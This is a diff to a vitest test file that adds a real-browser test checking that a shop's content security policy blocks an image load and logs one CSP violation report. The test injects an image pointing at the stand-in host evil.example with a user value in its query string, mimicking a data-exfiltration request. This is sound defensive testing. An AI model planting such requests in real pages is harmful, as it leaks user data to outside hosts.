@@ -1,8 +1,12 @@
+import { spawnSync } from 'node:child_process'
 import { mkdtempSync, rmSync } from 'node:fs'
 import { request } from 'node:http'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
+import { chromium } from 'playwright-core'
 import { afterAll, beforeAll, expect, it } from 'vitest'
+import { makeCertificate, openTls } from '../../bench/observatory/tls.ts'
+import { chromiumLaunch } from '../setup/chromium.ts'
 import { loadDemo, type Program, startProgram } from './program.ts'
 
 const data = mkdtempSync(join(tmpdir(), 'log-'))
@@ -140,3 +144,47 @@ it('holds no secret of any input, at the most talkative level (reliability 2.15)
   expect(whole).toContain('"event":"csp_report"')
   for (const line of log) expect(line.length).toBeLessThan(8192)
 })
+
+const hasOpenssl = spawnSync('openssl', ['version']).status === 0
+
+// Chromium reports over TLS alone, and soon only when it is told to.
+it.runIf(hasOpenssl)(
+  'is told once by a real browser what the policy stopped (reliability 2.12)',
+  async () => {
+    const port = Number(new URL(shop.origin).port)
+    const proxy = await openTls(makeCertificate(data), { port, name: `localhost:${port}` })
+    const launch = chromiumLaunch()
+    const browser = await chromium.launch({
+      ...launch,
+      args: [
+        ...(launch.args ?? []),
+        '--ignore-certificate-errors',
+        '--short-reporting-delay',
+        `--host-resolver-rules=MAP shop.example:443 127.0.0.1:${proxy.port}`,
+      ],
+    })
+    const page = await browser.newPage()
+    await page.goto('https://shop.example/?who=nobody')
+    for (let time = 0; time < 3; time += 1) {
+      await page.evaluate(() => {
+        const picture = new Image()
+        picture.src = 'https://evil.example/x.png?of=nobody'
+        document.body.append(picture)
+      })
+    }
+    const told = (): string[] =>
+      shop
+        .printed()
+        .split('\n')
+        .filter((line) => line.includes('evil.example/x.png'))
+    await expect.poll(told, { timeout: 20_000 }).toHaveLength(1)
+    expect(JSON.parse(told()[0] ?? '')).toMatchObject({
+      event: 'csp_report',
+      directive: 'img-src',
+      blocked: 'https://evil.example/x.png',
+      page: 'https://shop.example/',
+    })
+    await browser.close()
+    proxy.close()
+  },
+)
